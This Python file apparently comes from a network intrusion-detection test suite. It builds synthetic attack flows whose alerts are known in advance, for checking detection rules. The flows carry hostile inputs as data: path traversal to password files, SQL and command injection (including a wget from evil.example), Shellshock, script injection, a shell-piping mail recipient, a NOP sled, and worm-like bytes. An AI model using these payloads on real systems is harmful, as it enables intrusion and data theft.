"""Planted attacks: flows whose alerts are known. `sample.rules` holds the rules; the numbers here are their sids.

A turn's marks name the signatures that its last frame completes. Attacks that bypass loses have their matches after the
handshake, so that they are lost whichever packet a bypass begins at.
"""

import struct
from collections.abc import Callable, Iterator

import attrs

from flowshunt.packets.sample import addresses, dns, ftp, http, smtp, ssh, telnet, tls
from flowshunt.packets.sample.addresses import Ends
from flowshunt.packets.sample.dice import Dice
from flowshunt.packets.sample.flow import MILLISECOND, SECOND, Flow, Sids, Turn
from flowshunt.packets.sample.icmp import EchoFlow
from flowshunt.packets.sample.pools import Pools
from flowshunt.packets.sample.probe import ProbeFlow
from flowshunt.packets.sample.stamp import Payload
from flowshunt.packets.sample.tcp import FIN, PSH, SYN, Shape, TcpFlow
from flowshunt.packets.sample.templates import dns_question
from flowshunt.packets.sample.udp import UdpFlow

URG = 32
WEB_SERVER = 80
HOST = b"shop.home.example"


@attrs.frozen
class Place:
    """Where an attack goes: the number of its flow, its start (ns), its draws."""

    number: int
    start: int
    dice: Dice
    pools: Pools


Attack = Callable[[Place], Flow]


def _inbound(place: Place, port: int, server: int, version: int = 4) -> Ends:
    ends = (addresses.attacker(place.number, version), addresses.server(server, version))
    return Ends(*ends, addresses.client_port(place.number), port)


def _outbound(place: Place, port: int, vlans: tuple[int, ...] = ()) -> Ends:
    ends = (addresses.client(place.number), addresses.attacker(place.number))
    return Ends(*ends, addresses.client_port(place.number), port, vlans)


def _tcp(place: Place, ends: Ends, *turns: Turn) -> Flow:
    def dialogue(_flow: Flow) -> Iterator[Turn]:
        yield from turns

    return TcpFlow("attack", ends, place.start, SECOND, 3 * len(turns) + 8, place.dice, dialogue)


def _udp(place: Place, ends: Ends, *turns: Turn) -> Flow:
    def dialogue(_flow: Flow) -> Iterator[Turn]:
        yield from turns

    return UdpFlow("attack", ends, place.start, SECOND // 2, max(len(turns), 2), place.dice, dialogue)


def _web(
    message: Payload, sids: Sids, *, shape: Shape | None = None, version: int = 4, answer: Payload | None = None
) -> Attack:
    """A request from outside to a web server, and its answer."""

    def attack(place: Place) -> Flow:
        planted = attrs.evolve(shape or Shape(), marks=sids)
        reply = answer if answer is not None else http.response(0, status=b"404 Not Found")
        return _tcp(place, _inbound(place, 80, WEB_SERVER, version), (0, message, planted), (1, reply))

    return attack


def _bot(vlans: tuple[int, ...]) -> Attack:
    """A bot inside reports to its server."""

    def attack(place: Place) -> Flow:
        message = http.request(b"/gate.php", b"panel.example", method=b"POST", body=b"bot_id=4711&os=linux")
        answer = (1, http.response(0, status=b"204 No Content"))
        return _tcp(place, _outbound(place, 80, vlans), (0, message, Shape(marks=(1000110,))), answer)

    return attack


def _download(place: Place) -> Flow:
    """A program from outside, its header in the first segment of the body."""
    program = b"MZ" + bytes(76) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(7)
    body = program + place.pools.noise_slice(place.dice, 9000)
    asks = http.request(b"/only-from-client/setup.exe", b"files.example")
    head = (1, http.response(len(body), http.FILE) + body[:1000], Shape(marks=(1000108,)))
    return _tcp(place, _outbound(place, 80), (0, asks), head, (1, body[1000:]))


def _mail(lines: bytes, sid: int) -> Attack:
    def attack(place: Place) -> Flow:
        ends = _inbound(place, 25, addresses.MAIL_SERVER)
        refusal = (1, b"550 5.1.1 Not here\r\n")
        return _tcp(place, ends, *smtp.greeting(_quiet(place)), (0, lines, Shape(marks=(sid,))), refusal)

    return attack


def _quiet(place: Place) -> Flow:
    """A flow that a borrowed dialogue draws from."""
    return Flow("attack", _inbound(place, 0, 0), place.start, SECOND, 1, place.dice)


def _transfer(user: bytes, *turns: Turn, accepted: bool = True, refused: Sids = ()) -> Attack:
    """An FTP session from outside."""

    def attack(place: Place) -> Flow:
        opening = list(ftp.login(user, b"guess", accepted))
        if refused:
            opening[-1] = (*opening[-1], Shape(marks=refused))
        return _tcp(place, _inbound(place, 21, addresses.FTP_SERVER), *opening, *turns)

    return attack


def _telnet(*turns: Turn) -> Attack:
    """A telnet session from outside, up to and after its login."""

    def attack(place: Place) -> Flow:
        return _tcp(place, _inbound(place, 23, 210), *telnet.login(b"root", b"guess"), *turns)

    return attack


def _probe(port: int, flags: int, sid: int, refused: bool = True) -> Attack:
    def attack(place: Place) -> Flow:
        ends = _inbound(place, port, 90)
        return ProbeFlow("attack", ends, place.start, place.dice, flags, refused=refused, marks=(sid,))

    return attack


def _datagram(port: int, payload: Payload, sids: Sids, server: int = addresses.SYSLOG_SERVER) -> Attack:
    """One datagram from outside."""

    def attack(place: Place) -> Flow:
        return _udp(place, _inbound(place, port, server), (0, payload, sids) if sids else (0, payload))

    return attack


def _query(name: bytes, sids: Sids) -> Attack:
    """A DNS query from a client inside to a server outside."""

    def attack(place: Place) -> Flow:
        question = dns.asked(dns_question(name, dns.A), place.dice.below(0x10000))
        return _udp(place, _outbound(place, 53), (0, question, sids))

    return attack


def _ping(payload: bytes, sids: Sids) -> Attack:
    def attack(place: Place) -> Flow:
        ends = attrs.evolve(_outbound(place, 0), client_port=0)
        return EchoFlow("attack", ends, place.start, 2, place.dice, payload, sids)

    return attack


def _session(port: int, turns: Callable[[Place], Iterator[Turn]]) -> Attack:
    """A connection from a client inside to a server of the attacker's."""

    def attack(place: Place) -> Flow:
        return _tcp(place, _outbound(place, port), *turns(place))

    return attack


def _implant(place: Place) -> Iterator[Turn]:
    message = http.request(b"/poll", b"cdn.example").replace(b"Accept:", b"X-Implant-Id: 31337\r\nAccept:")
    yield 0, message, Shape(marks=(1000161,))
    yield 1, http.response(0, status=b"204 No Content")


def _scanner(place: Place) -> Iterator[Turn]:
    opening = ssh.opening(_quiet(place), place.pools, b"SSH-2.0-libscan_0.1\r\n")
    yield (*next(opening), Shape(marks=(1000162,)))
    yield from opening


def _named(place: Place) -> Iterator[Turn]:
    hello = tls.client_hello(_quiet(place), place.pools, b"update.malware-c2.example", tls13=True)
    yield 0, hello, Shape(marks=(1000163,))
    for size in (2200, 300, 900):
        yield 1, tls.application_data(place.pools.noise_slice(place.dice, size))
        yield 0, tls.application_data(place.pools.noise_slice(place.dice, 120))


def _channel(_place: Place) -> Iterator[Turn]:
    yield 0, b"NICK drone4711\r\nUSER drone 0 * :drone\r\n"
    yield 1, b":irc.example 001 drone4711 :Welcome\r\n"
    yield 0, b"JOIN #botnet\r\n", Shape(marks=(1000165,))
    yield 1, b":irc.example 332 drone4711 #botnet :wait\r\n"


def _stages(place: Place) -> Iterator[Turn]:
    for _ in range(60):
        yield 0, place.pools.noise_slice(place.dice, 64)
        yield 1, place.pools.noise_slice(place.dice, 96)
    yield 0, b"second-stage-ready\n", Shape(marks=(1000166,))
    yield 1, place.pools.noise_slice(place.dice, 4000)


def _token(_place: Place) -> Iterator[Turn]:
    yield 0, http.request(b"/token", b"build.home.example")
    body = b'{"token":"sample-admin-token"}'
    yield 1, http.response(len(body), http.DATA) + body, Shape(marks=(1000169,))


def _ransom(place: Place) -> Flow:
    """The backup server answers a client with a ransom note."""
    ends = attrs.evolve(_outbound(place, 9103), server=addresses.BACKUP_SERVER)
    note = (1, b"ALL-YOUR-FILES-ARE-ENCRYPTED\n", Shape(marks=(1000164,)))
    return _tcp(place, ends, (0, place.pools.noise_slice(place.dice, 300)), (1, b"\0\0\0\2"), (0, b"\0\0\0\3"), note)


def _spoofed(place: Place) -> Flow:
    ends = attrs.evolve(_outbound(place, 51820), server=addresses.BACKUP_SERVER)
    first = (0, b"\x01\0\0\0" + place.pools.noise_slice(place.dice, 144))
    answer = (1, b"\x02\0\0\0" + place.pools.noise_slice(place.dice, 88))
    return _udp(place, ends, first, answer, (0, b"\x04\0\0\0spoofed-tunnel-message", (1000167,)))


def _get(path: bytes, agent: bytes = http.AGENTS[3]) -> bytes:
    return http.request(path, HOST, agent)


def _post(body: bytes) -> bytes:
    return http.request(b"/form", HOST, method=b"POST", body=body)


def _cut(message: bytes, pattern: bytes) -> Shape:
    """A cut in the middle of `pattern`."""
    return Shape(cuts=(message.index(pattern) + len(pattern) // 2,))


_ENCODED = _post(b"run=powershell -EncodedCommand SQBFAFgA")
_SCRIPT = _post(b"comment=" + b"x" * 500 + b"<script>document.location='//evil.example'</script>" + b"y" * 500)
_SHELL = _get(b"/cgi-bin/status", b"() { :;}; /bin/bash -c id")
_PIECES = _post(b"z" * 1100 + b"fragmented-segment-exploit")
_SLED = b"\x90" * 40 + b"/bin/sh\r\n"
_LONG_NAME = b".".join((b"exfil", b"0123456789abcdef" * 3, b"fedcba9876543210" * 3, b"a1b2c3d4" * 7, b"t.example"))
_SNMP = bytes.fromhex("302602010104067075626c6963a019020101020100020100300e300c06082b060102010101000500")
_REGISTER = b"REGISTER sip:home.example SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.7\r\n"
_WORM = b"\x04" + b"\x01" * 96 + bytes.fromhex("81f10301049b81f101") + b"sock" + b"\x90" * 200 + b"send"

ATTACKS: tuple[Attack, ...] = (
    _web(_get(b"/img/../../../../etc/passwd"), (1000101,)),
    _web(_get(b"/item?id=1", b"sqlmap/1.7 (https://sqlmap.example)"), (1000102,)),
    _web(_get(b"/run?cmd=;/usr/bin/wget http://evil.example/x"), (1000103,)),
    _web(_post(b"id=1 UNION SELECT name,password FROM users"), (1000104,)),
    _web(_ENCODED, (1000105,), shape=_cut(_ENCODED, b"-EncodedCommand")),
    _web(_SCRIPT, (1000106,), shape=Shape(cuts=(300, _SCRIPT.index(b"document") + 4), order=(0, 2, 1))),
    _web(_SHELL, (1000107,), shape=Shape(cuts=(20,), again=(1,))),
    _download,
    _web(_get(b"/cgi-bin/luci/;stok=/locale?form=country"), (1000109,), version=6),
    _bot((100,)),
    _bot((200, 301)),
    _web(_PIECES, (1000111,), shape=Shape(mtu=576)),
    _mail(b"VRFY root\r\n", 1000121),
    _mail(b"MAIL FROM:<a@evil.example>\r\nRCPT TO:<|/bin/sh>\r\n", 1000122),
    _transfer(b"admin", (0, b"RETR /etc/shadow\r\n", Shape(marks=(1000124,))), (1, b"550 No access.\r\n")),
    _transfer(b"guest", (0, b"RETR /etc/shadow\r\n"), (1, b"550 No access.\r\n")),
    _transfer(b"guest", (0, b"USER " + b"A" * 320 + b"\r\n", Shape(marks=(1000125,))), (1, b"500 What?\r\n")),
    _transfer(b"guest", (0, b"SITE EXEC " + _SLED, Shape(marks=(1000126,))), (1, b"500 No.\r\n")),
    _transfer(b"guest", accepted=False, refused=(1000127,)),
    _telnet((1, b"\r\nLogin incorrect\r\nlogin: ", Shape(marks=(1000128,)))),
    _telnet((1, b"\r\n# "), (0, bytes.fromhex("fff4fffd06") + b"rootkit\r\n", Shape(marks=(1000129,)))),
    _probe(80, SYN | FIN, 1000131),
    _probe(23, SYN | FIN, 1000131, refused=False),
    _probe(25, SYN | FIN, 1000131),
    _probe(21, FIN | PSH | URG, 1000132),
    _probe(80, 0, 1000133, refused=False),
    _query(b"Evil-C2.Example", (1000141,)),
    _query(_LONG_NAME, (1000142,)),
    _datagram(1434, _WORM, (1000143,)),
    _datagram(514, b"<13>" + b"log " * 900 + b"fragmented-datagram-exploit", (1000144,)),
    _datagram(161, _SNMP, (1000145,)),
    _datagram(9999, b"BEACON\0" + struct.pack(">Q", 4711) + b"\0END", (1000146,)),
    _datagram(5060, _REGISTER + b"\r\n", (1000147,)),
    _datagram(5060, _REGISTER + b"Max-Forwards: 70\r\n\r\n", ()),
    _datagram(514, b"<86>Mar  5 08:00:01 gate sshd[4242]: Failed password for root from 203.0.113.9", (1000148,)),
    _datagram(7777, b"\x01covert-channel-marker", (1000149,)),
    _datagram(5003, b"range-of-ports-probe", (1000150,)),
    _datagram(5005, b"range-of-ports-probe", ()),
    _ping(b"large " * 150, (1000151,)),
    _ping(b"tunnel-through-echo: id\n", (1000152,)),
    _session(80, _implant),
    _session(8080, _implant),
    _session(22, _scanner),
    _session(443, _named),
    _ransom,
    _session(6667, _channel),
    _session(4444, _stages),
    _spoofed,
    _session(8443, _token),
    _web(_post(b"note=exfiltrated-part-one"), ()),
    _web(_post(b"note=exfiltrated-part-two"), ()),
)  # fmt: skip
"""One round of attacks: a flow each. The last two, and those without sids, are there not to alert."""


def plant(place: int, number: int, start: int, seed: int, pools: Pools) -> Flow:
    """The flow of attack number `place` (taken modulo a round) as the sample's flow `number`."""
    dice = Dice(seed, (number << 8) + 254)
    return ATTACKS[place % len(ATTACKS)](Place(number, start + dice.below(MILLISECOND), dice, pools))
